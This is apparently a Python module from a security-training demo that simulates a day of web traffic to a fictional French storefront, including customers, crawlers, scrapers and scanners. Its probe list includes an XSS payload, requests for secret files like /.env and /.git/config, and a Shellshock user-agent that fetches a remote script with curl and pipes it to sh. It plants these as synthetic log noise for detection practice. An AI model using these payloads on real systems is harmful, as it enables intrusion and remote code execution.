"""A day of public traffic: customers on the storefront and their own account API, search
engine bots, scrapers on product pages and the usual vulnerability scanners.

Volumes follow the hour of day in each visitor's own time zone (nights quiet, evening
peaks) and the weekday (weekends busier and later); they grow with days and, slowly, with
the customer base.
"""

from __future__ import annotations

import itertools
import random
from urllib.parse import quote

from breachdesk.demo.clock import Day
from breachdesk.demo.logfiles import BOTH, Hit
from breachdesk.demo.places import COUNTRIES
from breachdesk.demo.products import Product
from breachdesk.demo.world import BROWSERS, SITE, World, random_ip

# Relative visits per local hour 0..23.
WEEKDAY_PROFILE = (
    1.2,
    0.7,
    0.4,
    0.3,
    0.3,
    0.4,
    0.9,
    1.8,
    2.8,
    3.4,
    3.8,
    4.2,
    5.2,
    5.0,
    4.2,
    4.0,
    4.1,
    4.4,
    5.0,
    5.8,
    6.6,
    6.4,
    4.6,
    2.6,
)
WEEKEND_PROFILE = (
    1.8,
    1.1,
    0.6,
    0.4,
    0.3,
    0.3,
    0.5,
    0.9,
    1.6,
    2.8,
    4.2,
    5.2,
    5.4,
    5.2,
    5.8,
    6.2,
    6.2,
    5.9,
    5.6,
    5.6,
    5.9,
    5.6,
    4.2,
    2.8,
)
WEEKDAY_VOLUME = (0.95, 0.95, 1.0, 1.0, 1.05, 1.3, 1.2)
SESSIONS_PER_DAY = 620
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
GOOGLEBOT_MOBILE = (
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/131.0.6778.204 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html)"
)
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
HEADLESS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/124.0.0.0 Safari/537.36"
)
SCRAPY = "Scrapy/2.11.2 (+https://scrapy.org)"
_REFERERS = (
    "https://www.google.com/",
    "https://www.google.fr/",
    "https://www.instagram.com/",
    "https://www.bing.com/",
    "",
    "",
    "",
)
_SEARCH_TERMS = (
    "sac",
    "bague or",
    "carré de soie",
    "montre",
    "parfum",
    "cadeau",
    "cachemire",
    "ballerines",
    "noël",
    "édition limitée",
)
_PROBES = (
    ("/.env", "Mozilla/5.0 zgrab/0.x"),
    ("/wp-login.php", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101"),
    ("/.git/config", "Go-http-client/1.1"),
    ("/phpmyadmin/index.php", "Mozilla/5.0 zgrab/0.x"),
    ('/search?q="><svg/onload=alert(1)>', "Mozilla/5.0"),
    ("/cgi-bin/status", '() { :; }; /bin/bash -c "curl -s http://45.95.147.12/x.sh | sh"'),
    ("/api/v1/customers?page=1&per_page=100", "python-requests/2.28.1"),
    ("/actuator/env", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"),
)


class Catalogue:
    def __init__(self, products: list[Product]):
        self.products = products
        self.categories = sorted({p.category for p in products})

    def product_page(self, rng: random.Random, lang: str) -> tuple[str, Product]:
        product = self.products[
            min(int(rng.paretovariate(1.2)) - 1, len(self.products) - 1)
            if rng.random() < 0.5
            else rng.randrange(len(self.products))
        ]
        return f"/{lang}/products/{product.slug}", product

    def collection_page(self, rng: random.Random, lang: str) -> tuple[str, str]:
        category = rng.choice(self.categories)
        return f"/{lang}/collections/{category}", category


def _hour_weights(day: Day, utc_offset: int) -> list[float]:
    """Weight of each Paris wall hour of ``day`` for visitors living at ``utc_offset``."""
    profile = WEEKEND_PROFILE if day.is_weekend else WEEKDAY_PROFILE
    weights = []
    for start in day.hour_starts:
        local_hour = (start // 3_600_000 + utc_offset) % 24
        weights.append(profile[local_hour])
    return weights


def public_day(world: World, day: Day, catalogue: Catalogue) -> list[Hit]:
    rng = random.Random(f"{world.seed}:public:{day.index}")
    hits: list[Hit] = []
    hits += _customer_sessions(world, day, catalogue, rng)
    hits += _bots(day, catalogue, rng)
    hits += _scrapers(world, day, catalogue, rng)
    hits += _scanners(day, rng)
    return hits


def _customer_sessions(
    world: World, day: Day, catalogue: Catalogue, rng: random.Random
) -> list[Hit]:
    count = int(
        SESSIONS_PER_DAY * world.scale * WEEKDAY_VOLUME[day.weekday] * rng.uniform(0.9, 1.1)
    )
    cum = {
        i: list(itertools.accumulate(_hour_weights(day, c.utc_offset)))
        for i, c in enumerate(COUNTRIES)
    }
    country_cum = list(itertools.accumulate(c.weight * c.visits for c in COUNTRIES))
    known = world.existing_customers(day.start)
    hits: list[Hit] = []
    for _ in range(count):
        customer = rng.randint(1, known) if rng.random() < 0.45 else 0
        for _ in range(3):  # far-away customers visit less often
            if not customer or rng.random() < COUNTRIES[world.facts.country[customer]].visits:
                break
            customer = rng.randint(1, known)
        if customer:
            country = int(world.facts.country[customer])
            lang = world.language(customer)[:2]
            ip = world.home_ip(customer) if rng.random() < 0.7 else random_ip(rng, country)
            agent = world.browser(customer)
        else:
            country = rng.choices(range(len(COUNTRIES)), cum_weights=country_cum)[0]
            lang = "fr" if COUNTRIES[country].code in ("FR", "CH") else "en"
            ip = random_ip(rng, country)
            agent = rng.choice(BROWSERS)
        hour = rng.choices(range(24), cum_weights=cum[country])[0]
        start = day.hour_starts[hour] + rng.randrange(3_600_000)
        hits += _session(world, rng, catalogue, start, customer, lang, ip, agent)
    return hits


def _session(
    world: World,
    rng: random.Random,
    catalogue: Catalogue,
    ms: int,
    customer: int,
    lang: str,
    ip: str,
    agent: str,
) -> list[Hit]:
    principal = f"customer:{customer}" if customer else "anonymous"
    token = f"tok_{rng.getrandbits(64):016x}" if customer else None
    hits: list[Hit] = []
    referer = rng.choice(_REFERERS)
    query = "utm_source=newsletter&utm_medium=email" if rng.random() < 0.08 else ""

    def page(path: str, q: str = "") -> None:
        nonlocal ms, referer
        status = 404 if rng.random() < 0.01 else 200
        hits.append(
            Hit(ms, ip, "GET", path, q, status, rng.randint(18_000, 95_000), referer, agent)
        )
        referer = SITE + path

    def api(method: str, path: str, q: str = "", status: int = 200, rows: int = 0) -> None:
        nonlocal ms
        ms += rng.randint(80, 900)
        size = 120 + rows * rng.randint(180, 420)
        hits.append(
            Hit(
                ms,
                ip,
                method,
                path,
                q,
                status,
                size,
                referer,
                agent,
                principal if path != "/api/v1/auth/login" else "anonymous",
                token if path != "/api/v1/auth/login" else None,
                rows,
                rng.randint(12, 240),
                BOTH,
            )
        )

    landing = rng.random()
    if landing < 0.4:
        page(f"/{lang}/", query)
    elif landing < 0.7:
        page(catalogue.collection_page(rng, lang)[0], query)
    else:
        page(catalogue.product_page(rng, lang)[0], query)
    if customer:
        if rng.random() < 0.05:
            api("POST", "/api/v1/auth/login", status=401)
        api("POST", "/api/v1/auth/login")
        api("GET", f"/api/v1/customers/{customer}", rows=1)
        first, count = (
            int(world.facts.first_order[customer]),
            int(world.facts.order_count[customer]),
        )
        for order in range(first, first + min(count, rng.randint(0, 2))):
            api("GET", f"/api/v1/orders/{order}", rows=1)
    for _ in range(min(int(rng.expovariate(1 / 5)), 24)):
        ms += rng.randint(4_000, 75_000)
        choice = rng.random()
        if choice < 0.45:
            path, product = catalogue.product_page(rng, lang)
            page(path)
            api("GET", f"/api/v1/products/{product.sku}", rows=1)
        elif choice < 0.7:
            path, category = catalogue.collection_page(rng, lang)
            page(path)
            api("GET", "/api/v1/products", f"category={category}&page=1&per_page=24", rows=24)
        elif choice < 0.78:
            page(f"/{lang}/search", "q=" + quote(rng.choice(_SEARCH_TERMS)))
        elif choice < 0.9:
            page(f"/{lang}/cart")
            api("GET", "/api/v1/cart", rows=rng.randint(0, 3))
        else:
            page(f"/{lang}/")
    if customer and rng.random() < 0.05:
        api("POST", "/api/v1/cart/items", status=201, rows=1)
        ms += rng.randint(20_000, 120_000)
        page(f"/{lang}/checkout")
        api("POST", "/api/v1/orders", status=201, rows=1)
    return hits


def _bots(day: Day, catalogue: Catalogue, rng: random.Random) -> list[Hit]:
    hits: list[Hit] = []
    crawlers = (
        (GOOGLEBOT, "66.249.66", 190),
        (GOOGLEBOT_MOBILE, "66.249.68", 90),
        (BINGBOT, "40.77.167", 110),
    )
    for agent, net, mean in crawlers:
        for _ in range(int(mean * rng.uniform(0.8, 1.2))):
            ms = day.start + rng.randrange(day.end - day.start)
            ip = f"{net}.{rng.randrange(1, 255)}"
            roll = rng.random()
            if roll < 0.03:
                path = "/robots.txt"
            elif roll < 0.06:
                path = "/sitemap.xml"
            elif roll < 0.75:
                path = catalogue.product_page(rng, rng.choice(("fr", "en")))[0]
            else:
                path = catalogue.collection_page(rng, rng.choice(("fr", "en")))[0]
            status = 404 if rng.random() < 0.02 else 200
            hits.append(Hit(ms, ip, "GET", path, "", status, rng.randint(9_000, 90_000), "", agent))
    return hits


def _scrapers(world: World, day: Day, catalogue: Catalogue, rng: random.Random) -> list[Hit]:
    """A headless browser copying product pages some evenings; Scrapy on the product API."""
    hits: list[Hit] = []
    if rng.random() < 0.3:
        ms = day.at(rng.randint(18, 21), rng.randrange(60))
        ip = f"45.146.165.{rng.randrange(2, 250)}"
        for _ in range(rng.randint(500, 1100)):
            ms += rng.randint(800, 6_000)
            status = 429 if rng.random() < 0.06 else 200
            path = catalogue.product_page(rng, "en")[0]
            hits.append(
                Hit(ms, ip, "GET", path, "", status, rng.randint(30_000, 90_000), "", HEADLESS)
            )
    if day.weekday in (1, 4):
        ms = day.at(rng.randint(1, 3), rng.randrange(60))
        ip = f"185.191.171.{rng.randrange(2, 250)}"
        pages = len(catalogue.products) // 50 + 1
        for number in range(1, pages + 1):
            ms += rng.randint(1_500, 4_000)
            rows = min(50, len(catalogue.products) - (number - 1) * 50)
            hits.append(
                Hit(
                    ms,
                    ip,
                    "GET",
                    "/api/v1/products",
                    f"page={number}&per_page=50",
                    200,
                    120 + rows * 260,
                    "",
                    SCRAPY,
                    "anonymous",
                    None,
                    rows,
                    rng.randint(30, 120),
                    BOTH,
                )
            )
            for _ in range(rows // 5):
                ms += rng.randint(700, 2_500)
                path = catalogue.product_page(rng, "fr")[0]
                hits.append(
                    Hit(ms, ip, "GET", path, "", 200, rng.randint(30_000, 90_000), "", SCRAPY)
                )
    return hits


def _scanners(day: Day, rng: random.Random) -> list[Hit]:
    hits: list[Hit] = []
    for _ in range(rng.randint(4, 14)):
        ms = day.start + rng.randrange(day.end - day.start)
        first = rng.choice((45, 89, 103, 141, 167, 193))
        ip = f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        target, agent = rng.choice(_PROBES)
        path, _, query = target.partition("?")
        if path.startswith("/api/"):
            hits.append(
                Hit(
                    ms,
                    ip,
                    "GET",
                    path,
                    query,
                    401,
                    64,
                    "",
                    agent,
                    "anonymous",
                    None,
                    0,
                    rng.randint(2, 9),
                    BOTH,
                )
            )
        else:
            hits.append(Hit(ms, ip, "GET", path, query, 404, 153, "", agent))
    return hits
